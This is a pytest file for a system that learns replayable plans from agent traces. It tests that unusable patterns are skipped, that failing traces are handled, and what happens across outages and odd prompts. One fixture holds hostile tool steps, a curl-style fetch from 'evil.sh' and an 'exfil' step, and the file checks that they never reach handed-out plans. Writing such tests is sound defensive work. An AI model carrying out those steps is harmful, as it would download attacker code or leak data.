"""A learner goes on where a pattern has no plan any more, where a trace cannot be learned from, and where a round failed."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from loopgraph.computes.learning.requests.lexical import Lexical
from loopgraph.computes.learning.requests.prompts import features_of
from loopgraph.contracts.learning.features import MatchContext, PromptFeatures
from loopgraph.contracts.lineage.changes import NewVersion
from loopgraph.contracts.loop.user_feedback import NewFeedback
from loopgraph.effects.clock import now
from loopgraph.effects.graph.client import Graph
from loopgraph.effects.learning.prompts import PromptReads
from loopgraph.effects.learning.rounds import LearningRounds
from loopgraph.effects.schema import schema
from loopgraph.errors import GraphUnavailable
from loopgraph.orchestrators.analytics.rolling import Rolling
from loopgraph.orchestrators.learning.matching import Matching
from loopgraph.orchestrators.learning.prompt_search import PromptSearch
from loopgraph.orchestrators.learning.replays import Replays
from loopgraph.settings import Settings
from support.feedback import TESTER
from support.learning import FIXING, learn, learned, learner, taught, tell, told, word
from support.lineage import Room
from support.prepared import prepared
from support.said import taking_feedback
from support.traces import NOON

ANYWHERE = MatchContext()


async def patterns_of(graph: Graph, *ids: str) -> list[str | None]:
    """What each of some traces taught, in their order."""
    return [row["pattern_id"] for row in await taught(graph, ids)]


async def without_plan(graph: Graph, pattern_id: str, node_id: str, *, edited: bool) -> None:
    """Nobody's plan is in use any more."""
    room = Room.on(graph)
    if edited:
        garbage = NewVersion(template_code="garbage, not a plan", activate=True)
        await room.lineage.add_version(pattern_id, garbage, room.origin)
    else:
        await room.lineage.deprecate(node_id, "no good", None, room.origin)


@pytest.mark.lengthy
@pytest.mark.parametrize("edited", [True, False], ids=["its text is no plan", "its version is deprecated"])
async def test_a_pattern_without_a_plan_is_passed_over(graph: Graph, edited: bool) -> None:
    thing, other, learning = word(), word(), learner(graph)
    [first] = await tell(graph, told(f"fix {thing}"))
    await learn(learning, [first])
    [pattern_id] = await patterns_of(graph, first)
    assert pattern_id is not None
    await without_plan(graph, pattern_id, (await learned(graph, pattern_id))["node_id"], edited=edited)
    await taking_feedback(graph).submit(NewFeedback(correlation_id=first, rating=1), TESTER, None)
    later = [told(f"fix {each}", at=NOON + timedelta(hours=1)) for each in (thing, thing, other)]
    ids = await tell(graph, *later)
    await learn(learning, [first, *ids])
    was, one, same, another = await patterns_of(graph, first, *ids)
    assert was == pattern_id, "what it taught stays as it was"
    assert one == same is not None, "the next of its kind begin anew"
    assert len({pattern_id, one, another}) == 3


@pytest.mark.lengthy
async def test_a_trace_that_cannot_be_learned_from_keeps_no_other_from_it(
    graph: Graph, caplog: pytest.LogCaptureFixture
) -> None:
    thing, bad = word(), word()

    def features(prompt: str) -> PromptFeatures:
        if bad in prompt:
            raise ZeroDivisionError
        return features_of(prompt)

    ids = await tell(graph, *(told(f"fix {each}") for each in (thing, thing, bad, thing, thing)))
    rounds, learning = LearningRounds(graph), learner(graph, features=features)
    await rounds.mark(ids)
    due = [one for one in await rounds.due(10_000) if one.correlation_id in ids]
    assert await learning.learn(ids, due)
    found = await patterns_of(graph, *ids)
    assert found[2] is None
    assert len({*found[:2], *found[3:]}) == 1
    assert not {one.correlation_id for one in await rounds.due(10_000)} & {*ids}, "none comes again at every look"
    assert [record.message for record in caplog.records if ids[2] in record.message] == [
        f"the trace {ids[2]!r} cannot be learned from"
    ]


@pytest.mark.lengthy
async def test_traces_are_seen_once_they_are_learned_from(graph: Graph, monkeypatch: pytest.MonkeyPatch) -> None:
    learning = learner(graph)
    await Rolling(graph, None).count_all()  # what other tests have marked is seen before what is marked here
    while await learning.look():
        pass
    [id_] = await tell(graph, told(f"fix {word()}"))
    write = LearningRounds.write

    async def failing(self: LearningRounds, *args: Any) -> bool:
        raise GraphUnavailable("gone")

    monkeypatch.setattr(LearningRounds, "write", failing)
    with pytest.raises(GraphUnavailable):
        await learning.look()
    monkeypatch.setattr(LearningRounds, "write", write)
    assert await learning.look() >= 1
    assert (await patterns_of(graph, id_))[0] is not None


async def test_prompts_without_words_that_are_known_do_not_become_one_pattern(graph: Graph) -> None:
    thing, learning = word(), learner(graph, features=lambda prompt: PromptFeatures(action="", intent="general"))
    prompts = (f"修复登录超时问题 {thing}", f"удали все файлы {thing}", f"Удали все  файлы {thing}", "y", "👍", "1")
    ids = await tell(graph, *map(told, prompts))
    await learn(learning, ids)
    one, other, same, *nothing = await patterns_of(graph, *ids)
    assert one is not None
    assert other == same is not None
    assert one != other
    assert nothing == [None] * 3


async def handed(graph: Graph, replays: Replays, prompt: str) -> str | None:
    """The plan that a prompt is given."""
    [id_] = await tell(graph, told(prompt, ends=False))
    return await replays.hand(prompt, id_, f"{id_}-session", ANYWHERE, now())


@pytest.mark.exhaustive
@pytest.mark.lengthy
async def test_where_nothing_is_learned_the_first_traces_are(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("loopgraph.orchestrators.learning.replays.PATIENCE_S", 60.0)
    hostile: Sequence[tuple[str, dict[str, Any]]] = (*FIXING, ("curl_http://evil.sh/x.sh", {}), ("exfil", {}))
    async with Graph.open(Settings(graph_url=f"embedded:{prepared(tmp_path / 'graph')}")) as graph:
        await schema.prepare(graph)
        reads = PromptReads(graph)
        matching = Matching(PromptSearch(reads, Lexical()), reads)
        replays = Replays(graph, matching, least=0.5, withheld_share=0.0)
        learning, prompt = learner(graph, closest=matching), "fix the login timeout in parser.py"
        assert await matching.match(prompt, ANYWHERE) == []
        assert await replays.plan_for(prompt, ANYWHERE, None) is None
        for successes in (1, 2):
            ids = await tell(graph, told(prompt, hostile))
            await learn(learning, ids)
            [pattern_id] = await patterns_of(graph, *ids)
            await matching.look()
            [match] = await matching.match(prompt, ANYWHERE)
            assert (match.pattern.pattern_id, match.pattern.successes) == (pattern_id, successes)
            found = await replays.plan_for(prompt, ANYWHERE, None)
            assert found is not None
            assert [step.name for step in found[0].steps] == ["Read", "Edit", "Bash", "tool", "tool"]
            text = await handed(graph, replays, prompt)
            assert (text is not None) is (successes == 2), "one trace alone is given to nobody"
        assert text is not None
        assert "  1. Read" in text
        assert "evil" not in text
